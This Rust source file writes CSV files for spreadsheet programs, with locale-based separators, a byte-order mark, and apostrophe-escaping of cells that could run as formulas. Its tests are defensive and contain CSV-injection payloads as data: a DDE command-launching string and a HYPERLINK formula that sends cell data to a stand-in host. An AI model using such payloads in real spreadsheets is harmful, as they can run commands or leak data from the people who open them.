//! CSV files for spreadsheet programs, one way for every CSV toolkit writes: UTF-8 with a
//! byte-order mark (so that accented letters read right), CRLF line ends (RFC 4180), the field
//! separator the spreadsheet programs of the page's language expect (a semicolon where the comma
//! is the decimal mark, as in Dutch Excel), and no cell that a spreadsheet would run as a formula.

use std::borrow::Cow;

/// Whether a spreadsheet program may read a cell starting with `first` as a formula: `=`, `+`,
/// `-`, `@`, and the tab and carriage return that can hide one (OWASP, "CSV Injection").
fn starts_formula(first: char) -> bool {
    matches!(first, '=' | '+' | '-' | '@' | '\t' | '\r')
}

/// `text` as a cell that is shown as text, never run: one that could start a formula
/// (`=HYPERLINK(…)`, `@SUM(…)`, `-2+3`) gets a leading apostrophe, which spreadsheet programs
/// take as "this is text".
pub fn cell(text: &str) -> Cow<'_, str> {
    match text.chars().next() {
        Some(first) if starts_formula(first) => Cow::Owned(format!("'{text}")),
        _ => Cow::Borrowed(text),
    }
}

/// The languages whose spreadsheet programs (Excel with the regional settings of the country)
/// write the decimal mark as a comma and so separate CSV fields with a semicolon. A file with
/// commas opens in one column there. Matched on the language's first subtag: `nl`, `nl-BE`.
const SEMICOLON_LANGUAGES: &[&str] = &[
    "nl", "de", "fr", "es", "it", "pt", "da", "sv", "nb", "nn", "no", "fi", "is", "pl", "cs", "sk",
    "sl", "hr", "hu", "ro", "bg", "ru", "uk", "el", "tr", "et", "lv", "lt", "id",
];

/// The field separator of CSV files for a language: `;` for [`SEMICOLON_LANGUAGES`], else `,`.
pub fn separator(lang: &str) -> u8 {
    let primary = lang
        .split(['-', '_'])
        .next()
        .unwrap_or("")
        .to_ascii_lowercase();
    if SEMICOLON_LANGUAGES.contains(&primary.as_str()) {
        b';'
    } else {
        b','
    }
}

/// A CSV file being written row by row, every cell passed through [`cell`].
pub struct Sheet {
    writer: csv::Writer<Vec<u8>>,
}

impl Sheet {
    /// An empty sheet for readers of `lang` (see [`separator`]): just the byte-order mark.
    pub fn for_language(lang: &str) -> Sheet {
        let out = Vec::from("\u{feff}".as_bytes());
        Sheet {
            writer: csv::WriterBuilder::new()
                .delimiter(separator(lang))
                .terminator(csv::Terminator::CRLF)
                .from_writer(out),
        }
    }

    /// Adds a row.
    pub fn row<I, S>(&mut self, cells: I) -> Result<(), csv::Error>
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        self.writer
            .write_record(cells.into_iter().map(|c| cell(c.as_ref()).into_owned()))
    }

    /// The file's bytes.
    pub fn finish(self) -> Result<Vec<u8>, csv::Error> {
        self.writer
            .into_inner()
            .map_err(|e| csv::Error::from(e.into_error()))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cells_that_could_run_as_formulas_become_text() {
        for (text, written) in [
            ("=2+3", "'=2+3"),
            ("+31 20 123", "'+31 20 123"),
            ("-1", "'-1"),
            (
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "'@SUM(1+1)*cmd|' /C calc'!A0",
            ),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
        ] {
            assert_eq!(cell(text), written);
        }
        for text in ["", "Name a lead", "a=b", "'quoted", " =1", "3-2", "é=1"] {
            assert!(
                matches!(cell(text), Cow::Borrowed(t) if t == text),
                "{text:?}"
            );
        }
    }

    #[test]
    fn a_sheet_has_a_bom_crlf_quoting_and_safe_cells() {
        let mut sheet = Sheet::for_language("en");
        sheet.row(["name", "action"]).unwrap();
        sheet
            .row([
                "Team, manager",
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            ])
            .unwrap();
        sheet.row(vec![String::from("-"), String::new()]).unwrap();
        let bytes = sheet.finish().unwrap();
        assert_eq!(
            String::from_utf8(bytes).unwrap(),
            "\u{feff}name,action\r\n\"Team, manager\",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"\r\n'-,\r\n"
        );
    }

    #[test]
    fn dutch_and_german_sheets_separate_with_semicolons_and_quote_them() {
        for lang in ["nl", "nl-BE", "de", "fr_FR"] {
            let mut sheet = Sheet::for_language(lang);
            sheet.row(["Naam", "Actie; nu", "1,5 dag"]).unwrap();
            assert_eq!(
                sheet.finish().unwrap(),
                "\u{feff}Naam;\"Actie; nu\";1,5 dag\r\n".as_bytes(),
                "{lang}"
            );
        }
        for lang in ["en", "en-GB", "ja", ""] {
            assert_eq!(separator(lang), b',', "{lang}");
        }
    }
}
